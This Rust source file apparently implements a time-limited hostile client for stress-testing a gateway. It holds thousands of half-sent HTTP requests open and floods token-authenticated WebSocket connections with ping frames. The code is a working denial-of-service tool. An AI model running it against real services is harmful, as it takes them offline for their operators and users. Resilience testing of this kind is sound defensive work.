//! A stranger's client, in a process of its own: it opens connections that say little, and sockets that send
//! nothing but pings and read nothing.

use std::collections::VecDeque;
use std::time::Duration;

use futures_util::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

/// Connections held at once; beyond it the oldest is closed.
const HELD: usize = 15_000;

/// Sockets of pings at once.
const PINGS: usize = 50;

/// The flood ends by itself after this, whatever becomes of the process that started it.
const LASTS: Duration = Duration::from_secs(300);

/// The wait after a connection that was refused or closed.
const PAUSE: Duration = Duration::from_millis(1);

/// Floods the gateway at `host:port`. The access token is one that a page may have.
pub(crate) async fn run(address: &str, access_token: &str) {
    let pings = (0..PINGS).map(|_| pings(address, access_token));
    let all = async { tokio::join!(connections(address), join_all(pings)) };
    let _ = timeout(LASTS, all).await;
}

/// Opens one connection after the other, and sends half a head on each.
async fn connections(address: &str) {
    let mut held = VecDeque::with_capacity(HELD);
    loop {
        match TcpStream::connect(address).await {
            Ok(mut stream) => {
                let _ = stream.write_all(b"GET /v1/feed HTTP/1.1\r\nX-Half: ").await;
                held.push_back(stream);
            }
            Err(_) => sleep(PAUSE).await,
        }
        if held.len() > HELD {
            held.pop_front();
        }
    }
}

/// Opens one socket after the other, and sends pings on each until it is closed.
async fn pings(address: &str, access_token: &str) {
    // A masked ping of 125 bytes; its mask is zero.
    let mut frame = vec![0x89, 0x80 | 125, 0, 0, 0, 0];
    frame.resize(6 + 125, b'a');
    let frames = frame.repeat(500);
    let request = format!(
        "GET /v1/socket?access_token={access_token} HTTP/1.1\r\nhost: {address}\r\nconnection: upgrade\r\n\
         upgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
    );
    loop {
        if let Ok(mut stream) = TcpStream::connect(address).await
            && stream.write_all(request.as_bytes()).await.is_ok()
            && stream.read_u8().await.is_ok()
        {
            while stream.write_all(&frames).await.is_ok() {}
        }
        sleep(PAUSE).await;
    }
}
